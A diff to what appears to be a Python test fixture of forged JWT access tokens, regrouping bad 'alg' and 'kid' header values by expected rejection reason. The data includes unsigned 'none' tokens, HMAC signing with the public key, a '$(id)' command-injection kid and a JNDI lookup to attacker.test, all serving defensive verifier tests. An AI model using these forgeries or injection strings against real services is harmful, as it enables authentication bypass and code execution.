@@ -16,23 +16,13 @@ _PEM = KEY.as_pem(private=False)
 _URL = "https://attacker.test/keys"
 
 _NONE = ("none", "None", "NONE", "nOnE", " none")
-_NO_ALGORITHM: tuple[Any, ...] = (
-    "es256",
-    "ES256 ",
-    "ES256\0",
-    "ES256K",
-    "RS256",
-    "HS256",
-    "",
-    None,
-    1,
-    ["ES256"],
-    {},
-)
+_NO_ALGORITHM = ("es256", "ES256 ", "ES256\0", "ES256K", "RS256", "HS256", "")
+_NO_TEXT: tuple[Any, ...] = (None, 1, ["ES256"], {})
 
 ALGORITHMS: Forgeries = {
-    **{f"{name}, unsigned": one for name, one in each("alg", _NONE, "encoding", unsigned).items()},
+    **{f"{name}, unsigned": one for name, one in each("alg", _NONE, "algorithm", unsigned).items()},
     **each("alg", (*_NONE, *_NO_ALGORITHM), "algorithm", head),
+    **each("alg", _NO_TEXT, "header", head),
     "alg missing": ("header", head(alg=...)),
     "alg twice": ("json", raw_head('{"alg":"none","alg":"ES256","typ":"at+jwt","kid":"key-1"}')),
     "HS256 by the public key as PEM": ("algorithm", by_hmac(_PEM)),
@@ -49,7 +39,7 @@ ALGORITHMS: Forgeries = {
     "ES256 by another key under our kid": ("signature", by(_STRANGER, "ES256")),
 }
 
-_KIDS: tuple[Any, ...] = (
+_KIDS = (
     "",
     "key-2",
     "KEY-1",
@@ -62,11 +52,6 @@ _KIDS: tuple[Any, ...] = (
     "$(id)",
     "${jndi:ldap://attacker.test}",
     _URL,
-    1,
-    None,
-    True,
-    ["key-1"],
-    {"key-1": "key-1"},
 )
 
 _PARAMETERS: dict[str, Any] = {
@@ -89,6 +74,7 @@ _PARAMETERS: dict[str, Any] = {
 
 KEYS: Forgeries = {
     **each("kid", _KIDS, "unknown_key", head),
+    **each("kid", (1, None, True, ["key-1"], {"key-1": "key-1"}), "header", head),
     "a kid of another's key": ("unknown_key", by(new_key("key-2"), "ES256", kid="key-2")),
     "kid missing": ("header", head(kid=...)),
     "kid twice": ("json", raw_head('{"alg":"ES256","typ":"at+jwt","kid":"key-2","kid":"key-1"}')),
